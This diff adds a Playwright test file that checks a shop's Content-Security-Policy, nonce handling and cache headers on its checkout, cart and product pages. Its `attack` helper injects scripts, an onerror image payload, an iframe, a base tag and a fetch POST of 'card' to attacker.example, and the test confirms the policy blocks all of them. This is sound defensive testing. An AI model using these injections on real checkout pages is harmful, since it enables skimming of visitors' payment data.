@@ -1,0 +1,200 @@
+import type { Page, Response } from "@playwright/test";
+import { addToCart, continueToPayment, fillBilling, openCheckout } from "./checkout.steps.ts";
+import { expect, shop, test } from "./fixtures.ts";
+
+// Every other test that opens a page fails when the policy stops something: the browser says so in its console.
+
+/** A policy's directives; the nonce is made readable. */
+function policyOf(response: Response | null): Record<string, string> {
+  const header = response?.headers()["content-security-policy"] ?? "";
+  const parts = header.split("; ").map((part) => part.split(" "));
+  return Object.fromEntries(
+    parts.map(([name, ...sources]) => [name, sources.join(" ").replace(/'nonce-[\w+/]{22}=='/, "nonce")]),
+  );
+}
+
+/** What a page's scripts are: the address of each file, and of what is written in the page its first words. */
+const scriptsOf = (page: Page) =>
+  page.evaluate(() =>
+    [...document.scripts]
+      .filter(({ type }) => type === "" || type === "module")
+      .map(({ src, textContent, nonce }) => src || `${nonce ? "nonce" : "bare"}: ${textContent.trim().slice(0, 32)}`),
+  );
+
+/** The scripts that the shop writes into its pages. */
+const ownWords = [
+  // React puts what streams in its place.
+  /^nonce: (?:requestAnimationFrame|\$R)/,
+  // The router keeps the place on the page, and starts the page's modules with what its loaders knew.
+  /^nonce: \(\(storageKey, restoreKey\)/,
+  /^nonce: window\.__reactRouterContext/,
+  /^nonce: import "\/assets\//,
+  // The cache of the pages' data.
+  /^nonce: window\.__APOLLO_STATE__=/,
+];
+
+/** Tries what an attacker would whose words have got into the page; what ran and what was stopped is noted on its window. */
+function attack(page: Page): Promise<void> {
+  return page.evaluate(() => {
+    const ran: string[] = [];
+    const stopped = new Set<string>();
+    Object.assign(window, { ran, stopped });
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.add(effectiveDirective));
+    const append = (place: HTMLElement, tag: string, attributes: object) =>
+      place.append(Object.assign(document.createElement(tag), attributes));
+    const address = "https://attacker.example/";
+
+    append(document.body, "script", { textContent: "ran.push('inline')" });
+    append(document.body, "script", { src: address });
+    append(document.body, "div", { innerHTML: "<img src='' onerror='ran.push(1)'><b style='color: red'>Sale</b>" });
+    append(document.body, "iframe", { src: address });
+    append(document.body, "img", { src: `${address}?card` });
+    append(document.head, "style", { textContent: "body { display: none }" });
+    append(document.head, "base", { href: address });
+    void fetch(address, { method: "POST", body: "card" }).then(
+      () => ran.push("fetch"),
+      () => undefined,
+    );
+    // In a turn of its own: what a test runs at once may do everything.
+    setTimeout(() => {
+      // oxlint-disable-next-line no-implied-eval, typescript/no-implied-eval
+      new Function("ran.push('text')")();
+    });
+  });
+}
+
+/** The names that `attack` has noted by now. */
+const noted = (page: Page, what: "ran" | "stopped") =>
+  page.evaluate((name) => [...(Reflect.get(window, name) as Iterable<string>)].toSorted(), what);
+
+/** The next document from an address. */
+const documentAt = (page: Page, path: string) =>
+  page.waitForResponse(
+    (response) => response.request().resourceType() === "document" && new URL(response.url()).pathname === path,
+  );
+
+/** What the policy of every page has in common. */
+const common = () => ({
+  "default-src": "'none'",
+  "style-src": expect.stringMatching(/^'self' 'sha256-[\w+/]{43}='$/) as unknown,
+  "font-src": "'self'",
+  "frame-src": `'self' ${new URL(shop.issuer).origin}`,
+  "form-action": "'self'",
+  "base-uri": "'none'",
+  "frame-ancestors": "'none'",
+});
+
+test(
+  "at the payment step the listed scripts run, and nothing that was slipped in",
+  { tag: "@desktop" },
+  async ({ page, consoleErrors }) => {
+    await page.route("https://attacker.example/**", (route) =>
+      route.fulfill({
+        contentType: "text/javascript",
+        body: "ran.push('file')",
+        headers: { "access-control-allow-origin": "*" },
+      }),
+    );
+    await addToCart(page, "/product/product-short-alt/bench-cap", "Bench cap");
+    const fetched: string[] = [];
+    page.on("request", (request) => {
+      if (request.resourceType() === "document") fetched.length = 0;
+      if (request.resourceType() === "script") fetched.push(request.url());
+    });
+    const opened = documentAt(page, "/checkout");
+    await openCheckout(page);
+    const document = await opened;
+    const html = await document.text();
+    await fillBilling(page);
+    await continueToPayment(page);
+    await expect(page.getByLabel("Card number")).toBeVisible();
+
+    expect(policyOf(document)).toEqual({
+      ...common(),
+      "script-src": `'self' nonce ${shop.payment}/`,
+      "img-src": expect.stringMatching(/^'self' http:\/\/localhost:\d+$/) as unknown,
+      "connect-src": `'self' ${new URL(shop.issuer).origin} ${shop.payment}`,
+    });
+    expect(document.headers()["cache-control"]).toBe("no-store");
+
+    // web/payment-scripts.md is the list of what may run here.
+    const provider = `${shop.payment}/accept.js`;
+    const isOwnFile = (url: string) => new RegExp(String.raw`^${shop.url}/assets/[\w.-]+\.js$`).test(url);
+    expect(fetched.filter((url) => !isOwnFile(url))).toEqual([provider]);
+    const scripts = await scriptsOf(page);
+    expect(scripts.filter((script) => !isOwnFile(script) && !ownWords.some((words) => words.test(script)))).toEqual([
+      provider,
+    ]);
+
+    // The nonce marks scripts and nothing else, and no script can read it off the page.
+    const [, nonce = ""] = /'nonce-([^']+)'/.exec(document.headers()["content-security-policy"] ?? "") ?? [];
+    expect(html.split(`nonce="${nonce}"`).length).toBeGreaterThan(3);
+    expect(html.replaceAll(`nonce="${nonce}"`, "")).not.toContain(nonce);
+    expect(await page.content()).not.toContain(nonce);
+    const again = await page.request.get("/checkout");
+    expect(again.headers()["content-security-policy"]).not.toContain(nonce);
+
+    expect(consoleErrors).toEqual([]);
+    await attack(page);
+    await expect
+      .poll(() => noted(page, "stopped"))
+      .toEqual([
+        "base-uri",
+        "connect-src",
+        "frame-src",
+        "img-src",
+        "script-src",
+        "script-src-attr",
+        "script-src-elem",
+        "style-src-attr",
+        "style-src-elem",
+      ]);
+    expect(await noted(page, "ran")).toEqual([]);
+    // What was stopped was said there, too.
+    consoleErrors.length = 0;
+  },
+);
+
+test("checkout and shop are documents of their own, each with its policy", { tag: "@desktop" }, async ({ page }) => {
+  const shopPolicy = policyOf(await page.goto("/cart"));
+  expect(shopPolicy).toMatchObject({ ...common(), "worker-src": "blob:", "style-src-attr": "'unsafe-inline'" });
+  expect(shopPolicy["script-src"]).toMatch(/^'self' nonce http:\/\/localhost:\d+\/$/);
+  expect(JSON.stringify(shopPolicy)).not.toContain(shop.payment);
+
+  // Not by a link that asks for a document, but as the router goes from page to page.
+  await page.waitForFunction(() => "__reactRouterDataRouter" in window && window.__reactRouterDataRouter);
+  const toCheckout = documentAt(page, "/checkout");
+  await page.evaluate(async () => {
+    const { __reactRouterDataRouter: router } = window as unknown as {
+      __reactRouterDataRouter: { navigate: (to: string) => Promise<void> };
+    };
+    void router.navigate("/checkout?stepId=billing");
+  });
+  expect(policyOf(await toCheckout)["script-src"]).toBe(`'self' nonce ${shop.payment}/`);
+  const toShop = documentAt(page, "/");
+  await page.getByRole("link", { name: "Look around the shop" }).click();
+  expect(policyOf(await toShop)).toEqual(shopPolicy);
+});
+
+test("a film plays, and pages are kept by nobody but the visitor's browser", { tag: "@desktop" }, async ({ page }) => {
+  const response = await page.goto("/product/product-short/vernier-6");
+  expect(response?.headers()).toMatchObject({
+    "cache-control": "private, no-cache",
+    "x-content-type-options": "nosniff",
+    "referrer-policy": "strict-origin-when-cross-origin",
+    "x-frame-options": "SAMEORIGIN",
+    "permissions-policy": "camera=(), microphone=(), geolocation=()",
+  });
+  expect(response?.headers()).not.toHaveProperty("strict-transport-security");
+  await page
+    .getByRole("button", { name: /^Play the film/ })
+    .first()
+    .click();
+  const film = page.getByRole("dialog").locator("video");
+  await expect.poll(() => film.evaluate((video: HTMLVideoElement) => video.readyState)).toBeGreaterThan(1);
+
+  for (const path of ["/confirm/1", "/profile", "/profile/orders/1", "/signin/callback", "/checkout"]) {
+    const personal = await page.request.get(path);
+    expect([path, personal.headers()["cache-control"]]).toEqual([path, "no-store"]);
+  }
+});
